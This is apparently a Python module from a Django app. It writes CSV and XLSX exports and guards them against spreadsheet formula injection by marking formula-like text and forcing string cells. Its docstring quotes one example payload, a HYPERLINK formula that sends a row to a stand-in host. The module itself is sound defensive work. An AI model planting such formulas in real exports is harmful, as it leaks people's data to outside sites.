"""Every CSV and XLSX file the app produces writes its cells here.

Text comes from people (a mentor's organisation, a student's major, a group's
name), and a spreadsheet runs a cell that starts like a formula:
``=HYPERLINK("https://evil.example/?d="&A2,"Open")`` would send the row to
another site. So text starting with one of ``FORMULA_STARTS`` stays text:

- in CSV, which has no types, it gets a leading apostrophe, the spreadsheets'
  own "this is text" mark; ``csv_value`` takes it off again when such a file
  is read back, so an exported roster imports unchanged;
- in XLSX every string is written as a string cell (openpyxl would store text
  starting with "=" as a formula), marked with Excel's quote prefix so the
  cell stays text when someone edits it. The value itself is unchanged.
"""

import csv
import io

from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET_TITLE_LENGTH = 31  # the XLSX limit


def _plain(value):
    return str(value) if isinstance(value, Promise) else value


def looks_like_formula(text):
    # Marks are skipped so that text really starting with "'=" is marked once
    # more and reads back as it was.
    return text.lstrip(TEXT_MARK).startswith(FORMULA_STARTS)


def csv_cell(value):
    """``value`` as a CSV cell: empty for None, text that looks like a
    formula behind an apostrophe."""
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, str) and looks_like_formula(value):
        return TEXT_MARK + value
    return value


def csv_value(text):
    """A CSV cell's text as it was before ``csv_cell`` marked it."""
    if text.startswith(TEXT_MARK) and looks_like_formula(text):
        return text[len(TEXT_MARK) :]
    return text


def csv_text(header, rows):
    """A CSV file of ``header`` and ``rows`` (no byte-order mark)."""
    content = io.StringIO()
    writer = csv.writer(content)
    writer.writerow([csv_cell(label) for label in header])
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return content.getvalue()


def xlsx_cell(sheet, value):
    """``value`` as a cell of a write-only ``sheet``: every string a string."""
    value = _plain(value)
    if isinstance(value, str):
        # Control characters are not allowed in XLSX; openpyxl would refuse the file.
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    cell = WriteOnlyCell(sheet, value)
    if isinstance(value, str):
        # openpyxl types "=..." as a formula and "#N/A" as an error.
        cell.data_type = "s"
        # Set only where needed: a style on every cell took most of the time
        # of writing a large sheet.
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


def xlsx_bytes(sheets):
    """An XLSX workbook of ``sheets``: (title, header, rows) each."""
    book = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = book.create_sheet(str(title)[:SHEET_TITLE_LENGTH])
        sheet.append([xlsx_cell(sheet, label) for label in header])
        for row in rows:
            sheet.append([xlsx_cell(sheet, value) for value in row])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()
